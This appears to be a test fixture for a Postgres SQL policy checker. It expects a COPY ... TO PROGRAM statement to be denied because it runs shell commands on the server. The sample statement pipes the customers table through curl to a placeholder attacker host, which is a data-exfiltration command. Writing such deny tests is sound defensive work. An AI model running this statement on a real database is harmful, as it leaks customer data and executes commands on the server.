-- dialect: postgres
-- expect: deny statement_kind
-- why: COPY ... TO PROGRAM runs a shell command on the database server (remote code execution).
COPY customers TO PROGRAM 'curl -T - http://attacker.invalid/upload'
